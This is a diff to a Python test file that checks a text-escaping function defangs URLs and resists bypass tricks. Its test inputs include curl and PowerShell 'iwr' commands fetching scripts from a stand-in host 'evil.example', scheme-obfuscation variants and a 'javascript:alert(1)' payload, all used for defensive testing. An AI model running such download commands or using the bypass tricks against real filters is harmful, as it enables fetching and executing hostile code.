@@ -14,7 +14,7 @@ from urllib.parse import unquote
 
 import pytest
 
-from shared.card import (
+from shared.cards import (
     ADAPTIVE_CARD,
     MAX_PAYLOAD_BYTES,
     PortalLinks,
@@ -421,3 +421,42 @@ def test_a_value_cut_before_escaping_is_marked_even_when_the_rest_collapses() ->
 
     assert "tail" not in text
     assert text.endswith(" …[truncated: 5,005 chars]")
+
+
+# --- defanging cannot be bypassed (issue 16) -------------------------------------------------
+
+@pytest.mark.parametrize(("raw", "expected"), [
+    ("curl http://127.0.0.1:https://evil.example/p.ps1",
+     "curl hxxp[:]//127[.]0[.]0[.]1:hxxps[:]//evil[.]example/p.ps1"),
+    ("http://x@https://evil.example/a", "hxxp[:]//x@hxxps[:]//evil[.]example/a"),
+    ("xhttps://evil.example", "xhxxps[:]//evil[.]example"),
+    ("iwr -uri hTtPs://EvIl.example/x", "iwr -uri hxxPs[:]//EvIl[.]example/x"),
+    ("hxxps[:]//evil[.]example/p", "hxxps[:]//evil[.]example/p"),
+    ("hxxp://evil.example", "hxxp[:]//evil[.]example"),
+    ("https:/\\evil.example/x", "hxxps[:]/\\evil[.]example/x"),
+    ("https:evil.example", "hxxps[:]evil.example"),
+    ("ws://evil.example:8080/s", "ws[:]//evil[.]example:8080/s"),
+    ("a=1;ftps://evil.example", "a=1;fxps[:]//evil[.]example"),
+    ("xjavascript:alert(1)", "xjavascript[:]alert(1)"),
+])
+def test_defanging_cannot_be_bypassed(raw: str, expected: str) -> None:
+    assert escape_text(raw) == expected
+
+
+SCHEMES = ("http", "https", "ftp", "ftps", "HTTP", "hTtPs")
+
+
+@pytest.mark.parametrize("prefix", ["", "x", "1", "http://a.b:", "http://u@", "[", "(", "'"])
+@pytest.mark.parametrize("scheme", SCHEMES)
+def test_no_scheme_survives_anywhere_in_the_text(prefix: str, scheme: str) -> None:
+    text = escape_text(f"{prefix}{scheme}://evil.example/p")
+
+    assert "://" not in text
+    assert "evil.example" not in text
+    assert scheme.lower() + ":" not in text.lower()
+    assert text.lower().count("http") == 0
+
+
+def test_defanging_twice_changes_nothing() -> None:
+    once = escape_text(HOSTILE + " curl http://127.0.0.1:https://evil.example/p.ps1")
+    assert escape_text(once, limit=10_000) == once
